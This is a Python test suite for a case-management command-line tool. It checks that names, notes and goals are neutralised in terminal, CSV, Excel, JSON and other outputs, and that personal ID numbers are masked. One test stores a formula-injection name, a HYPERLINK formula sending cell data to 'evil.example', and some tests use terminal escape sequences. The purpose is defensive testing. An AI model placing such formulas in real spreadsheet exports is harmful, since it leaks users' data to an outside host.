"""User text is data, never markup: it cannot break a table, a terminal, a spreadsheet or a message."""

from __future__ import annotations

import csv
import io
import itertools
import json
import shutil

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import Samfam
from samfam.output.cells import UNSAFE, clean, spreadsheet_safe, visible
from support import DOMAIN_ERROR

ESC = "\x1b"


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        pytest.param("Alma", "Alma", id="plain-text-unchanged"),
        pytest.param("a\x1b[31mb", "a␛[31mb", id="escape-made-visible"),
        pytest.param("a\x07b\x00c", "a␇b␀c", id="bell-and-nul-visible"),
        pytest.param("line\nnext\tcol", "line\nnext\tcol", id="newline-and-tab-kept"),
        pytest.param("a\x9bb", "a\ufffdb", id="c1-control-replaced"),
        pytest.param("del\x7f", "del␡", id="delete-visible"),
        pytest.param("[/bold] [red]x", "[/bold] [red]x", id="markup-is-just-text"),
    ],
)
def test_control_characters_are_made_visible_for_a_terminal(typed, shown):
    assert visible(typed) == shown


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        pytest.param('=HYPERLINK("http://x"&A1,"Emil")', '\'=HYPERLINK("http://x"&A1,"Emil")', id="formula"),
        pytest.param("+45 1234", "'+45 1234", id="plus"),
        pytest.param("-5 kr", "'-5 kr", id="minus-in-text"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\tx", "'\tx", id="tab"),
        pytest.param("\rx", "'\nx", id="carriage-return"),
        pytest.param("a\r\nb", "a\nb", id="carriage-return-inside-becomes-a-newline"),
        pytest.param("Alma", "Alma", id="ordinary-text"),
        pytest.param("", "", id="empty-text"),
        pytest.param("'=1+1", "''=1+1", id="already-neutralised-gets-one-more"),
        pytest.param("'t Hooft", "'t Hooft", id="apostrophe-before-ordinary-text-unchanged"),
        pytest.param("x\ry", "x\ny", id="carriage-return-in-the-middle"),
        pytest.param(-66, "-66", id="negative-number-stays-a-number"),
    ],
)
def test_csv_text_that_looks_like_a_formula_is_neutralised(value, expected):
    assert spreadsheet_safe(value, str(value)) == expected


def test_a_cpr_number_typed_as_a_case_reference_is_masked_in_the_error(team):
    for typed in ("0101901234", "010190-1234"):
        result = team("case", "show", typed)
        assert result.exit_code == DOMAIN_ERROR
        assert "010190-XXXX" in result.stderr
        assert "1234" not in result.stderr


def test_a_formula_in_a_name_is_neutralised_in_every_csv_but_exact_in_json(team, open_case):
    name = '=HYPERLINK("http://evil.example"&A1,"Emil")'
    team.ok("case", "open", "2026-0900", "--child", name, "--advisor", "MKJ", "--opened", "2026-06-01")
    rows = list(csv.DictReader(io.StringIO(team.ok("case", "list", "-f", "csv").stdout)))
    assert rows[0]["child"] == "'" + name
    excel = team.ok("case", "list", "-f", "excel").stdout.removeprefix("\ufeff")
    assert list(csv.DictReader(io.StringIO(excel), delimiter=";"))[0]["child"] == "'" + name
    assert team.ok("case", "list", "-f", "json").json()[0]["child"] == name


# -- arbitrary text through every read command, in every format -------------------------------------

#: What no output may show raw (samfam.documents.text.clean): ESC, CSI (U+009B), NUL, the separators, the bidi
#: overrides and isolates; hypothesis draws them often, among any other character.
_DANGEROUS = "\x1b\x9b\x00\x07\x7f\r\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_texts = st.text(
    alphabet=st.one_of(st.sampled_from(_DANGEROUS), st.characters(blacklist_categories=("Cs",))),
    min_size=1,
    max_size=60,
).filter(lambda s: s.strip())
_counter = itertools.count()

READS = [
    ("case", "show", "2026-0901"),
    ("case", "list"),
    ("event", "list", "2026-0901"),
    ("goals", "2026-0901"),
    ("explain", "2026-0901"),
    ("overdue",),
    ("due", "--within", "365"),
    ("audit", "--case", "2026-0901"),
    ("actor", "list", "2026-0901"),
    ("deadlines", "--within", "36500"),
    ("handover", "show", "2026-0901", "--all"),
    ("retention",),
    ("check",),
]


def _case_with(migrated_db, tmp_path, child: str, note: str, goal: str) -> Samfam:
    """A case whose child, note, goal, actor and contact are the text given."""
    db = tmp_path / f"safety-{next(_counter)}.db"
    shutil.copy2(migrated_db, db)
    s = Samfam(db)
    s.ok("advisor", "add", "MKJ", "--name", "Mette Kjær Jensen", "--team", "Nord")
    s.ok("case", "open", "2026-0901", "--child", child, "--advisor", "MKJ", "--opened", "2026-06-01", "--para", "BL 86")
    s.ok("event", "add", "2026-0901", "followup", "--on", "2026-06-15", "--note", note)
    # "--" ends the options: a goal may begin with "-" (hypothesis found "-0").
    s.ok("goal", "add", "--horizon", "short", "--owner", "family", "--target", "2026-08-01", "--", "2026-0901", goal)
    s.ok("actor", "add", "2026-0901", "school", "--name", child, "--contact", note)
    return s


# Two properties over the same kind of case, so that the suite's two workers can run them side by side.


def _raw(text: str, argv: tuple[str, ...]) -> None:
    """No raw control character, separator or bidi override in an output (iCalendar's CRLF line ends aside)."""
    found = UNSAFE.search(text.replace("\r\n", "\n") if "calendar" in argv else text)
    assert found is None, (argv, found and found.group(), text[max(0, found.start() - 40) : found.end() + 40])


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(child=_texts, note=_texts, goal=_texts)
def test_arbitrary_text_never_breaks_a_read_in_any_format(migrated_db, tmp_path, child, note, goal):
    s = _case_with(migrated_db, tmp_path, child, note, goal)
    for argv in READS:
        shown = {fmt: s.ok(*argv, "-f", fmt).stdout for fmt in ("table", "json", "ndjson", "csv", "excel")}
        for fmt, text in shown.items():
            _raw(text, (*argv, fmt))  # in JSON as escapes only
        assert json.loads(shown["json"]) is not None
        list(csv.reader(io.StringIO(shown["csv"])))  # parses as CSV
        list(csv.reader(io.StringIO(shown["excel"]), delimiter=";"))  # and for Excel
    card = s.ok("case", "show", "2026-0901", "-f", "json").json()
    assert card["child"] == child.strip()  # JSON is exact (names are trimmed when stored)
    assert card["events"][0]["note"] == note
    assert card["goals"][0]["text"] == goal.strip()
    assert [json.loads(line) for line in s.ok("case", "show", "2026-0901", "-f", "ndjson").stdout.splitlines()][0][
        "events"
    ][0]["note"] == note  # one object a line, exact


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(child=_texts, note=_texts, goal=_texts)
def test_arbitrary_text_never_breaks_a_document_in_any_format(migrated_db, tmp_path, child, note, goal):
    s = _case_with(migrated_db, tmp_path, child, note, goal)
    runs: list[tuple[str, ...]] = [
        ("report", "weekly", "--format", fmt) for fmt in ("table", "json", "markdown", "html")
    ]
    runs += [("plan", "2026-0901", "--format", fmt) for fmt in ("markdown", "html")]
    runs += [
        ("access", "2026-0901", "--format", fmt, "--with-staff")
        for fmt in ("json", "ndjson", "csv", "excel", "markdown", "html")
    ]
    runs += [("calendar", "--advisor", "MKJ", "--with-names"), ("calendar", "--team", "Nord")]
    runs += [("overdue", "-f", "csv", "--pseudonymise"), ("report", "weekly", "-f", "html", "--pseudonymise")]
    runs += [("report", "weekly", "-f", "markdown", "--pseudonymise"), ("deadlines", "--pseudonymise", "-f", "csv")]
    for argv in runs:
        result = s.ok(*argv)
        _raw(result.stdout, argv)
        _raw(result.stderr, argv)


@settings(max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=_texts)
def test_arbitrary_text_never_breaks_a_confirmation_or_an_error(migrated_db, tmp_path, text):
    s = _case_with(migrated_db, tmp_path, "Alma", "note", "goal")
    for result in (
        s("case", "open", "2026-0902", "--child", text, "--advisor", "MKJ", "--opened", "2026-06-01"),
        s("event", "add", "2026-0901", "followup", "--on", "2026-06-20", "--note", text),
        s("case", "show", text),
        s("advisor", "add", "XYZ", "--name", text, "--team", text),
    ):
        _raw(result.stdout, ("confirmation",))
        _raw(result.stderr, ("error",))


@pytest.mark.parametrize("char", list(_DANGEROUS))
def test_the_one_neutraliser_leaves_nothing_raw_and_is_idempotent(char):
    shown = clean(f"a{char}b\r\nc")
    assert UNSAFE.search(shown) is None
    assert clean(shown) == shown
    assert visible is clean


def test_a_team_name_with_markup_is_shown_as_typed_in_the_weekly_heading(samfam):
    samfam.ok("advisor", "add", "MKJ", "--name", "Mette Kjær Jensen", "--team", "[red]Nord[/red]")
    result = samfam.ok("report", "weekly", "--team", "[red]Nord[/red]")
    assert result.stdout.startswith("Weekly report, [red]Nord[/red]: ")


def test_an_xlsx_cell_carries_no_control_character_nor_bidi_override():
    """The workbook's cells go through the one neutraliser, like every other format."""
    from samfam.output.workbook import _value

    shown = _value("Alma\x1b[2J \u009b1m \u202eHolm\x00")
    assert not any(ch in shown for ch in "\x1b\u009b\u202e\x00")
    assert "Alma" in shown and "Holm" in shown
